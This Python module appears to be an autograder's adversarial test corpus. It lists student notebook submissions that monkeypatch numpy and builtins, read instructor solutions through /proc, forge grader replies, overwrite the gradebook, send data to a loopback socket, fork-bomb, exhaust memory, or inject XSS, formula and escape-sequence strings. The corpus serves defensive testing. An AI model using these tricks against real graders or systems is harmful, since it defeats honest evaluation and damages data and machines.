"""The adversarial corpus: submissions that cheat, crash, hang or are damaged, and what each must get.

Every case is one student of lesson 01. Most change a single answer cell (the
*target* exercise) of an otherwise correct submission; the others damage the
notebook file itself. ``expect`` says what the grade must be:

- ``"twin"``: a cheat. It must score no more than its ``twin``, a student with
  the same wrong answer and no trick (both are graded in the same run).
- ``"zero"``: the target exercise earns nothing; every other exercise keeps
  full marks (a fault costs only the exercise it hits).
- ``"full"``: everything earns full marks (printing, deleted check cells...).
- ``"lesson_zero"``: the notebook cannot be used: the lesson earns nothing and
  the reason names the problem (``reason``).

Cases that need the namespace sandbox (reading instructor files, the network)
set ``needs_namespaces``.
"""

import json
from dataclasses import dataclass, field

from autograder.lessons.paths import SOLUTIONS

TARGET = "rot_z"

WRONG_ROT_Z = """def rot_z(a):
    return np.eye(3)
"""

RIGHT_ROT_Z = """def rot_z(a):
    c, s = np.cos(a), np.sin(a)
    return np.array([[c, -s, 0.0], [s, c, 0.0], [0.0, 0.0, 1.0]])
"""


@dataclass(frozen=True)
class Case:
    name: str
    story: str
    expect: str  # "twin", "zero", "full" or "lesson_zero"
    source: str = ""  # the target exercise's answer cell
    target: str = TARGET
    twin: str = ""  # for cheats: the same answer without the trick
    damage: str = ""  # a notebook-level transformation, see build_case
    reason: str = ""  # for "lesson_zero": words the reason must contain
    needs_namespaces: bool = False
    student_id: str = ""  # defaults to the case name
    extra: dict = field(default_factory=dict)


def cases(context):
    """The corpus. ``context`` has ``out_dir``, ``canary`` (a file that must not change) and ``port``."""
    out, canary, port = context["out_dir"], context["canary"], context["port"]
    solutions_nb = str(SOLUTIONS / "01_frames_and_rotations.ipynb")
    return [
        Case(
            "numpy_monkeypatch",
            "replaces numpy's comparisons so every test passes",
            "twin",
            "import numpy as np\nnp.allclose = lambda *a, **k: True\nnp.isclose = lambda *a, **k: True\n"
            "np.testing.assert_allclose = lambda *a, **k: None\nnp.array_equal = lambda *a, **k: True\n" + WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
        ),
        Case(
            "builtins_monkeypatch",
            "replaces builtins the grader might use",
            "twin",
            "import builtins\nbuiltins.abs = lambda x: 0\nbuiltins.max = lambda *a, **k: 0\n"
            "builtins.isinstance = lambda *a: True\n" + WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
        ),
        Case(
            "sys_modules_monkeypatch",
            "swaps numpy.testing and pytest for fakes in sys.modules",
            "twin",
            "import sys, types\nfake = types.ModuleType('numpy.testing')\n"
            "fake.assert_allclose = lambda *a, **k: None\nsys.modules['numpy.testing'] = fake\n"
            "sys.modules['pytest'] = fake\nsys.modules['scipy'] = fake\n" + WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
        ),
        Case(
            "ipython_input_transformer",
            "turns every later cell into `pass`",
            "twin",
            "get_ipython().input_transformers_cleanup.append(lambda lines: ['pass\\n'])\n" + WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
        ),
        Case(
            "read_solutions_by_path",
            "opens the instructor's master and runs its answer",
            "twin",
            "import json\n"
            "def rot_z(a):\n"
            f"    nb = json.load(open({solutions_nb!r}))\n"
            "    cell = [c for c in nb['cells'] if c.get('id') == 'rot_z'][0]\n"
            "    namespace = {'np': np}\n"
            "    exec(''.join(cell['source']), namespace)\n"
            "    return namespace['rot_z'](a)\n",
            twin="def rot_z(a):\n    raise RuntimeError('no answer')\n",
            needs_namespaces=True,
        ),
        Case(
            "read_solutions_via_proc",
            "looks for the grader's files through /proc",
            "twin",
            "import glob, json\n"
            "def rot_z(a):\n"
            "    for path in glob.glob('/proc/*/cwd/solutions/01_*.ipynb') + glob.glob('/proc/*/root"
            f"{solutions_nb}'):\n"
            "        nb = json.load(open(path))\n"
            "        cell = [c for c in nb['cells'] if c.get('id') == 'rot_z'][0]\n"
            "        namespace = {'np': np}\n"
            "        exec(''.join(cell['source']), namespace)\n"
            "        return namespace['rot_z'](a)\n"
            "    raise RuntimeError('nothing found')\n",
            twin="def rot_z(a):\n    raise RuntimeError('no answer')\n",
            needs_namespaces=True,
        ),
        Case(
            "import_the_grader",
            "imports the grader's reference solutions",
            "twin",
            "import sys\n"
            f"sys.path.insert(0, {str(SOLUTIONS.parent)!r})\n"
            "def rot_z(a):\n"
            "    from autograder.lessons.reference import load_reference\n"
            f"    return load_reference({str(SOLUTIONS)!r}).rot_z(a)\n",
            twin="def rot_z(a):\n    raise RuntimeError('no answer')\n",
            needs_namespaces=True,
        ),
        Case(
            "symlink_to_solutions",
            "hands in a symbolic link to the instructor's master",
            "lesson_zero",
            damage="symlink_notebook",
            reason="symbolic link",
        ),
        Case(
            "symlinked_folder",
            "adds a linked folder holding the solutions; its own answer is wrong",
            "twin",
            WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
            damage="symlink_folder",
        ),
        Case(
            "write_outside",
            "tries to write over the gradebook and a file outside the sandbox",
            "full",
            "import os\n"
            f"for target in [{str(out / 'grades.csv')!r}, {str(canary)!r}, '/tmp/../etc/hosts']:\n"
            "    try:\n"
            "        with open(target, 'w') as handle:\n"
            "            handle.write('owned')\n"
            "    except OSError:\n"
            "        pass\n" + RIGHT_ROT_Z,
            needs_namespaces=True,
        ),
        Case(
            "detached_process",
            "leaves a detached process that rewrites the gradebook later",
            "full",
            "import os, sys, time\n"
            "if os.fork() == 0:\n"
            "    os.setsid()\n"
            "    if os.fork() == 0:\n"
            "        if os.fork() == 0:\n"  # a long-lived program of its own (the sandbox holds no /bin/sleep)
            "            os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(31.4159)'])\n"
            "        time.sleep(4)\n"
            "        for target in ["
            f"{str(out / 'grades.csv')!r}, {str(canary)!r}]:\n"
            "            try:\n"
            "                open(target, 'w').write('owned by a zombie')\n"
            "            except OSError:\n"
            "                pass\n"
            "    os._exit(0)\n" + RIGHT_ROT_Z,
            needs_namespaces=True,
        ),
        Case(
            "network_to_loopback",
            "sends data to a server on the grader's loopback",
            "full",
            "import socket\n"
            "try:\n"
            f"    connection = socket.create_connection(('127.0.0.1', {port}), timeout=2)\n"
            "    connection.sendall(b'stolen answers')\n"
            "except OSError:\n"
            "    pass\n" + RIGHT_ROT_Z,
            needs_namespaces=True,
        ),
        Case(
            "memory_bomb",
            "asks for 16 GiB at once",
            "zero",
            "def rot_z(a):\n    block = bytearray(16 * 1024**3)\n    return np.eye(3)\n",
        ),
        Case(
            "memory_creep",
            "grows a list until something gives",
            "zero",
            "def rot_z(a):\n    hoard = []\n    while True:\n        hoard.append(bytearray(64 * 1024**2))\n",
        ),
        Case(
            "cpu_bomb",
            "spins forever in pure Python",
            "zero",
            "def rot_z(a):\n    x = 0\n    while True:\n        x += 1\n",
        ),
        Case(
            "recursion_bomb",
            "raises the recursion limit and recurses without end",
            "zero",
            "import sys\nsys.setrecursionlimit(10**8)\n"
            "def rot_z(a):\n    def deeper(n):\n        return deeper(n + 1) + 1\n    return deeper(0)\n",
        ),
        Case(
            "fork_bomb",
            "forks without end",
            "zero",
            "import os\ndef rot_z(a):\n    while True:\n        try:\n            os.fork()\n"
            "        except OSError:\n            pass\n",
        ),
        Case(
            "os_exit_at_import",
            "calls os._exit while its cell is run",
            "zero",
            "import os\nos._exit(0)\n" + RIGHT_ROT_Z,
        ),
        Case(
            "sys_exit_at_import",
            "calls sys.exit while its cell is run",
            "zero",
            "import sys\nsys.exit(0)\n" + RIGHT_ROT_Z,
        ),
        Case(
            "endless_loop",
            "one function never returns",
            "zero",
            "def rot_x(a):\n    while True:\n        pass\n",
            target="rot_x",
        ),
        Case(
            "swallows_the_alarm",
            "catches the time limit's interruption and loops on",
            "zero",
            "def rot_x(a):\n    while True:\n        try:\n            while True:\n                pass\n"
            "        except BaseException:\n            pass\n",
            target="rot_x",
        ),
        Case(
            "long_sleep",
            "one function sleeps for 1000 s",
            "zero",
            "import time\ndef rot_y(a):\n    time.sleep(1000)\n    return np.eye(3)\n",
            target="rot_y",
        ),
        Case(
            "prints_50_mb",
            "prints 50 MB, then returns the right answer",
            "full",
            "def rot_z(a):\n    print('x' * 50_000_000)\n    c, s = np.cos(a), np.sin(a)\n"
            "    return np.array([[c, -s, 0.0], [s, c, 0.0], [0.0, 0.0, 1.0]])\n",
        ),
        Case(
            "lying_eq",
            "returns an object equal to everything",
            "twin",
            "class Anything:\n    def __eq__(self, other):\n        return True\n    def __array__(self, *a, **k):\n"
            "        raise TypeError\ndef rot_z(a):\n    return Anything()\n",
            twin="def rot_z(a):\n    return None\n",
        ),
        Case(
            "html_in_output",
            "returns and prints HTML and script",
            "zero",
            "def rot_z(a):\n    print('<img src=x onerror=alert(1)>')\n"
            "    return '<script>alert(\"owned\")</script>'\n",
        ),
        Case(
            "forged_protocol",
            "writes a forged reply into the grader's channel",
            "twin",
            "import os\n"
            "def rot_z(a):\n"
            "    for fd in range(3, 64):\n"
            "        try:\n"
            '            os.write(fd, b\'{"id":9999,"ok":true,"stdout":"","value":1.0}\\n\')\n'
            "        except OSError:\n"
            "            pass\n"
            "    return np.eye(3)\n",
            twin=WRONG_ROT_Z,
        ),
        Case(
            "kills_its_parent",
            "kills the process that runs it (its feeder, PID 1 of its namespaces: "
            "the signal is ignored); gains nothing",
            "twin",
            "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)\n" + RIGHT_ROT_Z,
            twin=RIGHT_ROT_Z,
        ),
        Case("deleted_check_cells", "deletes every check cell; answers right", "full", damage="delete_checks"),
        Case(
            "edited_check_cells",
            "rewrites the check cells to print success; rot_z wrong",
            "twin",
            WRONG_ROT_Z,
            twin=WRONG_ROT_Z,
            damage="edit_checks",
        ),
        Case(
            "recreated_cells", "deleted the answer cells and rewrote them in new cells", "full", damage="recreate_cells"
        ),
        Case(
            "duplicate_grade_id",
            "two cells claim rot_z; the last one (right) counts",
            "full",
            damage="duplicate_grade_id",
        ),
        Case(
            "corrupt_json",
            "notebook cut in half by a text editor",
            "lesson_zero",
            damage="truncate",
            reason="not valid JSON",
        ),
        Case("not_utf8", "notebook saved in Latin-1", "lesson_zero", damage="latin1", reason="not UTF-8"),
        Case("huge_notebook", "a 30 MB output left in the notebook", "lesson_zero", damage="huge", reason="over the"),
        Case("old_format", "a notebook in format 3", "lesson_zero", damage="nbformat3", reason="format"),
        Case("formula_id_plus", "a student id that starts with +", "full", student_id="+SUM(1;1)"),
        Case("formula_id_at", "a student id that starts with @", "full", student_id="@evil"),
        # the grader's own walls (issue 32): every family of input that once stopped or stalled the batch
        Case(
            "fifo_notebook",
            "hands in a FIFO named like the notebook (reading it would block)",
            "lesson_zero",
            damage="fifo",
            reason="FIFO",
        ),
        Case(
            "metadata_100000_deep",
            "valid JSON whose metadata nests lists 100,000 deep",
            "lesson_zero",
            damage="deep_metadata",
            reason="nests its JSON",
        ),
        Case(
            "a_million_tiny_lists",
            "metadata of a million empty lists (each costs the parser memory)",
            "lesson_zero",
            damage="tiny_lists",
            reason="JSON lists and objects",
        ),
        Case(
            "answer_100000_deep",
            "an answer whose expression is nested 100,000 deep",
            "zero",
            "def rot_z(a):\n    return " + "-" * 100_000 + "1\n",
        ),
        Case(
            "prints_lone_surrogates",
            "prints text no encoder accepts, then answers right",
            "full",
            "def rot_z(a):\n    print('\\ud800\\udcff')\n" + RIGHT_ROT_Z.split("\n", 1)[1],
        ),
        Case(
            "id_with_escape_sequences",
            "an id that clears the screen and sets the window title",
            "full",
            student_id="esc\x1b[2J\x1b]0;title\x07",
        ),
        Case(
            "id_with_a_newline",
            "an id whose second line forges a row of the grade table",
            "full",
            student_id="nl\nforged_row        12 ∕ 12  graded",
        ),
        Case("id_of_250_bytes", "an id as long as a file name may be", "full", student_id="L" * 250),
        Case("id_not_utf8", "an id with bytes that are not UTF-8", "full", student_id="bytes\udcff\udce9"),
    ]


def damage_notebook(case, nb, text):
    """Return the text to write for a notebook-level ``damage`` (None: no file, handled elsewhere)."""
    from autograder.lessons import cells

    if case.damage == "truncate":
        return text[: len(text) // 2]
    if case.damage == "latin1":
        return text.replace("Lesson 01", "Leçon 01", 1)  # written as Latin-1 by the caller
    if case.damage == "huge":
        nb.cells[0].setdefault("attachments", {})["big.txt"] = {"text/plain": "x" * (30 * 1024 * 1024)}
        return json.dumps(nb)
    if case.damage in ("deep_metadata", "tiny_lists"):
        data = json.loads(text)
        data["metadata"]["hostile"] = "@@"
        value = (
            "[" * 100_000 + "]" * 100_000
            if case.damage == "deep_metadata"
            else "[" + ",".join(["[]"] * 1_000_000) + "]"
        )
        return json.dumps(data).replace('"@@"', value)
    if case.damage == "nbformat3":
        data = json.loads(text)
        data["nbformat"] = 3
        return json.dumps(data)
    if case.damage == "delete_checks":
        nb.cells = [c for c in nb.cells if not cells.is_check_cell(c)]
    elif case.damage == "edit_checks":
        for cell in nb.cells:
            if cells.is_check_cell(cell):
                cell.source = 'print("All public checks passed.")'
    elif case.damage == "recreate_cells":
        kept = []
        for cell in nb.cells:
            if cells.is_answer_cell(cell):
                cell = type(cell)(
                    cell_type="code",
                    source=cell.source,
                    metadata={},
                    outputs=[],
                    execution_count=None,
                    id=f"new-{len(kept)}",
                )
            kept.append(cell)
        nb.cells = kept
    elif case.damage == "duplicate_grade_id":
        for index, cell in enumerate(nb.cells):
            if cells.grade_id(cell) == TARGET:
                wrong = json.loads(json.dumps(cell))
                wrong["source"] = WRONG_ROT_Z
                wrong["id"] = "rot_z_first_try"
                nb.cells.insert(index, type(cell)(wrong))
                break
    from autograder.lessons.notebook_files import canonical_text

    return canonical_text(nb)


# A student who fills every field they control to its bound (SECURITY.md, "Budgets per student"): each
# answer cell still defines a correct function (full marks), but prints megabytes, raises an error of
# megabytes, carries a tail of many tokens nested deep that is slow to tokenise and parse, and the folder
# holds notebooks and files with long names that the grader echoes. Built in the student's folder after
# ``build_submission`` wrote the reference answers.
FILL_MARK = "FILLSEVERYFIELD"


def filled_answer(reference):
    """``reference`` (a correct answer cell) with most of a megabyte printed and raised (the runner's own cuts of
    messages and printed text lifted first, as a student can), and 170,000 characters of nested tokens
    (under the 200,000 above which the grader's own parser refuses a source)."""
    tail = "_pad = " + "(" * 90 + "[" + f"{FILL_MARK}_a, " * 9_000 + "]" + ")" * 90 + " if False else None\n"
    forge = (  # the runner's own bounds on messages and printed text live in the student's process: lift them
        "import sys as _sys\n"
        "for _m in list(_sys.modules.values()):\n"
        "    if isinstance(getattr(_m, 'MESSAGE_KEEP', None), int):\n"
        "        _m.MESSAGE_KEEP = _m.STDOUT_KEEP = 10**9\n"
    )
    return (
        forge
        + reference
        + f"\n{tail}"
        + f"print('{FILL_MARK}' + 'p' * 400_000)\n"
        + f"raise ValueError('{FILL_MARK} ' + 'e' * 900_000)\n"
    )


def fill_every_field(folder):
    """Add to a student's ``folder`` what makes the grader echo long names: 60 extra notebooks and files
    whose names are 200 characters (each one a line of problems or skipped entries)."""
    from pathlib import Path

    folder = Path(folder)
    for index in range(60):
        name = f"{index:02d}_{FILL_MARK}_" + "n" * 180
        (folder / f"{name}.ipynb").write_text('{"cells": [], "metadata": {}, "nbformat": 4, "nbformat_minor": 5}')
        (folder / f".{name}").write_text("hidden")
